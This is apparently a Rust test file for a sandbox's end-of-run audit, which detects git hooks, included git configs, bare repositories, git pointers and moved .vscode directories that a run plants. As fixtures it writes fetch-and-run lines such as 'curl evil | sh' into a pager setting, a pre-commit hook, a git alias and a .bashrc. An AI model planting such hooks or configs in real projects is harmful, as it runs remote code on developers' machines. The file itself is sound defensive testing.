//! The end-of-run audit's walk on real directories: what git reaches through configs
//! (`include.path`, `core.hooksPath`), bare repositories, protected directories moved into
//! place, what is inert, and the bounds. (The sandboxed exploits are in `tests/all/run_audit.rs`.)
//!
//! Every audit here runs twice, listing every directory and with an index of the tree as it
//! was before the run (`audit_indexed`), and both must find the same.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic

use std::fs;
use std::path::{Path, PathBuf};

use srt_compiler::audit::AuditPlan;
use srt_runtime::audit::{audit, audit_indexed, AuditReport, Since, What};

use crate::common::tree::{found, next_second, Tree as Project};

impl Project {
    /// Waits into the next second (what was made before is older than the "run"), and indexes
    /// the tree as it is, as the audit of an earlier run would have.
    fn run_starts(&self, plan: &AuditPlan) -> Since {
        let since = next_second();
        let home = self.home();
        let warm = audit_indexed(plan, since, &home, Some(&self.index(1)));
        assert!(warm.findings.is_empty(), "{warm:#?}");
        since
    }

    /// The audit, listing every directory; the same with the index must find the same, and
    /// must have used it.
    fn both_audits(&self, plan: &AuditPlan, since: Since) -> AuditReport {
        let home = self.home();
        let full = audit(plan, since, &home);
        let indexed = audit_indexed(plan, since, &home, Some(&self.index(1)));
        let stopped = |r: &AuditReport| {
            r.findings.iter().any(
                |f| matches!(&f.what, What::Incomplete { reason } if reason.contains("stopped")),
            )
        };
        if stopped(&full) {
            assert!(stopped(&indexed), "{indexed:#?}");
        } else {
            assert_eq!(found(&full), found(&indexed), "{full:#?}\n{indexed:#?}");
            assert_eq!(full.dirs, indexed.dirs);
            assert!(indexed.listed < full.listed, "{indexed:#?}");
        }
        full
    }
}

#[test]
fn included_files_and_hooks_paths_under_a_root_are_followed() {
    let pr = Project::new();
    // A repository that existed before the run, whose config includes a file in the project
    // and takes its hooks from `.husky` (as husky sets it up).
    pr.write(".git/HEAD", "ref: refs/heads/main\n");
    fs::create_dir_all(pr.p(".git/objects")).unwrap();
    pr.write(
        ".git/config",
        "[core]\n\thooksPath = .husky\n[include]\n\tpath = ../shared/git.inc\n",
    );
    pr.write("shared/git.inc", "[user]\n\tname = me\n");
    pr.write(".husky/pre-commit.sample", "#!/bin/sh\n");
    let plan = pr.plan();
    let since = pr.run_starts(&plan);
    // The run: the included file now sets a pager, and a hook appears in .husky.
    pr.write(
        "shared/git.inc",
        "[user]\n\tname = me\n[core]\n\tpager = sh -c 'curl evil | sh'\n",
    );
    pr.write(".husky/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
    let r = pr.both_audits(&plan, since);
    assert_eq!(
        found(&r),
        [
            (pr.p(".husky/pre-commit"), "hook"),
            (pr.p("shared/git.inc"), "git-setting"),
        ],
        "{r:#?}"
    );
    assert!(matches!(&r.findings[1].what, What::GitSetting { key, .. } if key == "core.pager"));
}

#[test]
fn bare_repositories_pointers_and_moved_protected_directories() {
    let pr = Project::new();
    pr.write("fixtures/old/.vscode/tasks.json", "{\"tasks\":[]}");
    pr.write("fixtures/empty/.vscode/.keep", "");
    pr.write("repo2/.git/HEAD", "ref: refs/heads/main\n");
    pr.write("repo2/.git/config", "[core]\n\tbare = false\n");
    fs::create_dir_all(pr.p("repo2/.git/objects")).unwrap();
    let plan = pr.plan();
    let since = pr.run_starts(&plan);
    // A bare repository with an alias that runs a shell command.
    pr.write("evil.git/HEAD", "ref: refs/heads/main\n");
    fs::create_dir_all(pr.p("evil.git/objects")).unwrap();
    pr.write(
        "evil.git/config",
        "[alias]\n\tst = !sh -c 'curl evil | sh'\n\tlg = log\n",
    );
    // A protected directory from before the run, moved into place by the run; and one that
    // holds only an empty file, which runs nothing.
    fs::create_dir_all(pr.p("packages/x")).unwrap();
    fs::rename(pr.p("fixtures/old/.vscode"), pr.p("packages/x/.vscode")).unwrap();
    fs::rename(
        pr.p("fixtures/empty/.vscode"),
        pr.p("packages/y.vscode-tmp"),
    )
    .unwrap();
    fs::create_dir_all(pr.p("packages/y")).unwrap();
    fs::rename(pr.p("packages/y.vscode-tmp"), pr.p("packages/y/.vscode")).unwrap();
    // A `.git` symlink, a `commondir` in an existing repository, an empty .bashrc (inert).
    fs::create_dir_all(pr.p("w")).unwrap();
    std::os::unix::fs::symlink("/tmp/elsewhere", pr.p("w/.git")).unwrap();
    pr.write("repo2/.git/commondir", "/tmp/evil-common\n");
    pr.write("sub/.bashrc", "");
    // Looking like a bare repository (HEAD, objects) hides nothing below it.
    pr.write("decoy/HEAD", "x");
    pr.write("decoy/objects/x", "x");
    pr.write("decoy/refs/p/.vscode/tasks.json", "{}");
    let r = pr.both_audits(&plan, since);
    assert_eq!(
        found(&r),
        [
            (pr.p("decoy"), "bare-repository"),
            (pr.p("decoy/refs/p/.vscode/tasks.json"), "protected-name"),
            (pr.p("evil.git"), "bare-repository"),
            (pr.p("evil.git/config"), "git-setting"),
            (pr.p("packages/x/.vscode"), "protected-name"),
            (pr.p("repo2/.git/commondir"), "git-pointer"),
            (pr.p("w/.git"), "git-pointer"),
        ],
        "{r:#?}"
    );
    let text = r.stderr_text(false);
    assert!(
        text.contains("sets alias.st = \"!sh -c 'curl evil | sh'\""),
        "{text}"
    );
    assert!(
        text.contains("points git at /tmp/elsewhere (a symlink)"),
        "{text}"
    );
}

#[test]
fn bounds_are_reported_as_an_incomplete_audit() {
    let pr = Project::new();
    for i in 0..50 {
        pr.write(&format!("d{i}/f"), "x");
    }
    let deep: PathBuf = (0..12).map(|i| format!("l{i}")).collect();
    fs::create_dir_all(pr.p("").join(&deep)).unwrap();
    let mut plan = pr.plan();
    let since = pr.run_starts(&plan);
    pr.write(&format!("{}/.bashrc", deep.display()), "curl evil | sh\n");
    plan.limits.max_depth = 8;
    let r = pr.both_audits(&plan, since);
    let depth: Vec<_> = r
        .findings
        .iter()
        .filter(|f| matches!(&f.what, What::Incomplete { reason } if reason.contains("levels")))
        .collect();
    assert_eq!(depth.len(), 1, "{r:#?}");
    assert!(depth[0]
        .path
        .ends_with(Path::new("l0/l1/l2/l3/l4/l5/l6/l7/l8")));
    plan.limits.max_depth = 256;
    plan.limits.max_entries = 20;
    let r = pr.both_audits(&plan, since);
    assert!(
        r.findings.iter().any(|f| matches!(&f.what, What::Incomplete { reason } if reason.contains("stopped after 20 entries"))),
        "{r:#?}"
    );
    // Within the bounds, the deep .bashrc is found.
    plan.limits.max_entries = 1_000_000;
    let r = pr.both_audits(&plan, since);
    assert_eq!(
        found(&r),
        [(pr.p("").join(&deep).join(".bashrc"), "protected-name")]
    );
}
